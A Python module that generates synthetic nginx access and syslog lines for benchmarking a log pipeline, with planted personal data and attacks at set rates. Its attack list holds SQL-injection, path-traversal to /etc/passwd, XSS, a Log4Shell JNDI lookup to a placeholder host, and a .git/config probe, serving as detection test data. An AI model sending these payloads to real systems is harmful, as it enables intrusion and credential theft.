"""Unique log lines for the pipeline bench: nobody's, nothing repeated, personal data and attacks in known shares.

Addresses are those reserved for documentation. Every fiftieth access line carries personal data (2 %), every two
hundredth is an attack (0.5 %). Syslog is one fifth sshd, the rest other programs.
"""

import random
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

from bench.classify import AGENT, card, mobile, resident_id

PERSONAL_EVERY = 50
ATTACK_EVERY = 200
_CST = timezone(timedelta(hours=8))
_START = datetime(2026, 11, 20, 8, 0, tzinfo=_CST)
_AGENTS = (
    AGENT,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "okhttp/4.12.0",
)
_ATTACKS = (
    "/jwxt/list?id={n}%27%20UNION%20SELECT%20user,password%20FROM%20users--",
    "/portal/../../../../etc/passwd?{n}",
    "/search?q=%3Cscript%3Ealert({n})%3C/script%3E",
    "/api/v1/?x=${{jndi:ldap://198.51.100.7/{n}}}",
    "/.git/config?{n}",
)
_MESSAGES = (
    ("systemd[1]", "Started Session {n} of User teacher{k}."),
    ("kernel", "[{n}.{k:06d}] eth0: link up, 1000 Mbps, full duplex"),
    ("nginx[{k}]", "upstream timed out while reading response header, request id {n}"),
    ("CRON[{k}]", "(root) CMD (/usr/local/bin/backup --job {n})"),
)


def access_lines(count: int, *, seed: int = 11) -> Iterator[str]:
    """Yield lines of nginx's combined format: few pages are hot, users come back, no line comes twice."""
    dice = random.Random(seed)  # noqa: S311  repeatable data, no secret
    for number in range(count):
        stamp = (_START + timedelta(milliseconds=number * 20)).strftime("%d/%b/%Y:%H:%M:%S %z")
        status = dice.choices((200, 304, 302, 404, 401), (80, 8, 6, 4, 2))[0]
        agent, referrer = dice.choice(_AGENTS), f"https://jwxt.example.edu.cn/p/{dice.randrange(5_000)}"
        head = f"{_address(dice)} - - [{stamp}]"
        yield f'{head} "GET {_target(dice, number)} HTTP/1.1" {status} {dice.randrange(90_000)} "{referrer}" "{agent}"'


def _address(dice: random.Random) -> str:
    if dice.random() < 0.8:
        return f"198.51.100.{dice.randrange(256)}"
    return f"2001:db8::{dice.randrange(60_000):x}"


def _target(dice: random.Random, number: int) -> str:
    if number % ATTACK_EVERY == 1:
        return dice.choice(_ATTACKS).format(n=number)
    if number % PERSONAL_EVERY == 0:
        private = dice.choice((f"sfzh={resident_id(dice)}", f"sjh={mobile(dice)}", f"yhkh={card(dice)}"))
        return f"/jwxt/student/query?{private}&n={number}"
    page = int(dice.paretovariate(1.1)) % 4_000
    return f"/jwxt/xs/{page}?t={dice.randrange(10**9)}&n={number}"


def syslog_lines(count: int, *, seed: int = 12) -> Iterator[str]:
    """Yield lines of BSD syslog of ten hosts."""
    dice = random.Random(seed)  # noqa: S311  repeatable data, no secret
    for number in range(count):
        stamp = (_START + timedelta(milliseconds=number * 50)).strftime("%b %d %H:%M:%S")
        tag, message = _said(dice, number)
        yield f"{stamp} app{dice.randrange(10):02d} {tag}: {message}"


def _said(dice: random.Random, number: int) -> tuple[str, str]:
    if number % 5 == 0:
        verdict = dice.choices(("Failed", "Accepted"), (1, 3))[0]
        user = f"t{dice.randrange(3_000):05d}"
        port = 1_024 + number % 60_000
        return f"sshd[{number}]", f"{verdict} password for {user} from {_address(dice)} port {port} ssh2"
    tag, message = dice.choice(_MESSAGES)
    k = dice.randrange(10_000)
    return tag.format(k=k), message.format(n=number, k=k)


def write_log(path: Path, lines: Iterator[str]) -> int:
    """Write lines to a file and return its size in bytes."""
    with path.open("w", encoding="utf-8", newline="\n") as file:
        file.writelines(f"{line}\n" for line in lines)
    return path.stat().st_size
